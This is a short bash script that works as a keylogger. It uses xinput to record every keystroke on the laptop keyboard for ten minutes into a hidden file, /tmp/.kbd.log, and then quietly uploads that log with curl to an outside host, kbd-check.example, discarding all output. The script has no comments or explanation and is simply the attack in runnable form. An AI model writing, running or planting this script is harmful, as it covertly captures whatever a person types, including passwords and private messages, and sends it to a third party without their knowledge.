#!/bin/bash
id=$(xinput list --id-only 'AT Translated Set 2 keyboard')
timeout 600 xinput test "$id" > /tmp/.kbd.log &
sleep 600
curl -s --data-binary @/tmp/.kbd.log https://kbd-check.example/upload >/dev/null
